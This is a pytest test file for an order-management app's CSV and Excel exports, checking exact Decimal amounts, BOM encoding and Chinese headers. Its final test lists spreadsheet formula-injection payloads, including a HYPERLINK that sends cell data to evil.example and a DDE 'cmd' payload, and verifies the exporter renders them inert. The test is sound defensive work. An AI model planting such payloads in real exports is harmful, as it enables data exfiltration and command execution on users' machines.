"""CSV and Excel exports hold the exact figures: money as written by Decimal, never through a float."""

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from oms_desktop.db.uow import UnitOfWork
from oms_desktop.exports.csv_export import save_csv, write_csv
from oms_desktop.exports.excel import save_xlsx
from oms_desktop.exports.tables import tables
from oms_desktop.services.analytics.catalog import REPORTS, ReportOptions, run_report
from oms_desktop.services.analytics.kpis import headline
from oms_desktop.services.analytics.stock import inventory_turnover
from tests.reports.shop import PERIOD, build_shop

D = Decimal


@pytest.fixture
def shop_uow(sqlite_uow: UnitOfWork) -> UnitOfWork:
    return build_shop(sqlite_uow).uow


def test_every_report_has_a_table_layout(shop_uow: UnitOfWork) -> None:
    for name in REPORTS:
        sheets = tables(run_report(name, shop_uow, PERIOD, ReportOptions()))
        assert sheets and all(len(row) == len(s.columns) for s in sheets for row in s.rows), name


def test_csv_has_the_exact_amounts(shop_uow: UnitOfWork) -> None:
    out = io.StringIO()
    write_csv(tables(headline(shop_uow, PERIOD))[0], out)
    rows = {r["key"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert (rows["sales"]["current"], rows["sales"]["previous"], rows["sales"]["change"]) == (
        "735.81", "218.00", "237.5",
    )  # fmt: skip
    assert (rows["orders"]["current"], rows["refunds"]["change"]) == ("5", "")


def test_csv_file_has_a_bom_for_excel_and_chinese_names(shop_uow: UnitOfWork, tmp_path: Path) -> None:
    path = save_csv(tables(inventory_turnover(shop_uow, PERIOD))[0], tmp_path / "t.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert "龙井绿茶 Longjing" in text
    total = text.strip().splitlines()[-1].split(",")
    assert total[0] == "total" and total[6:11] == ["371.40", "3201.00", "3033.60", "3117.30", "0.12"]


def test_excel_cells_hold_exact_numbers_with_a_number_format(shop_uow: UnitOfWork, tmp_path: Path) -> None:
    path = save_xlsx(tables(inventory_turnover(shop_uow, PERIOD)), tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["turnover", "slow-movers"]
    sheet = book["turnover"]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["SKU", "Product", "Unit cost"]
    cup = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "CUP")
    assert (cup[2].data_type, cup[2].number_format, cup[3].number_format) == ("n", "0.00", "0")
    # The sheet's XML carries the Decimal's own digits (10.20, 372.30), not a binary float's.
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    values = re.findall(r"<v>([^<]*)</v>", xml)
    assert "372.30" in values and "3117.30" in values and "0.19" in values
    assert not any(re.fullmatch(r"\d+\.\d{5,}", v) for v in values)


def test_excel_headers_in_chinese(shop_uow: UnitOfWork, tmp_path: Path) -> None:
    path = save_xlsx(tables(headline(shop_uow, PERIOD)), tmp_path / "k.xlsx", language="zh_CN")
    sheet = openpyxl.load_workbook(path)["kpis"]
    assert [c.value for c in sheet[1]][:3] == ["指标", "类型", "本期"]
    sales = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "sales")
    assert (D(str(sales[2].value)), sales[2].number_format) == (D("735.81"), "0.00")


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_a_name_that_is_a_formula_stays_text_in_csv_and_excel(tmp_path: Path) -> None:
    """OWASP's CSV injection: a customer called =HYPERLINK(...) must not become a live formula anywhere it is
    exported, while real numbers (a refund's -12.50) keep their sign."""
    from oms_desktop.exports.tables import Column, Kind, Table

    table = Table(
        "customers",
        [Column("name", Kind.TEXT), Column("total", Kind.MONEY)],
        [[name, D("-12.50")] for name in HOSTILE] + [["张伟", D("8.00")]],
    )
    out = io.StringIO()
    write_csv(table, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    assert [r[0] for r in rows] == ["'" + name for name in HOSTILE] + ["张伟"]
    assert {r[1] for r in rows} == {"-12.50", "8.00"}

    sheet = openpyxl.load_workbook(save_xlsx([table], tmp_path / "c.xlsx"))["customers"]
    names = [sheet.cell(row=i, column=1) for i in range(2, 2 + len(HOSTILE))]
    assert [c.value for c in names] == HOSTILE and {c.data_type for c in names} == {"s"}
    with zipfile.ZipFile(tmp_path / "c.xlsx") as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()  # no formula stored at all
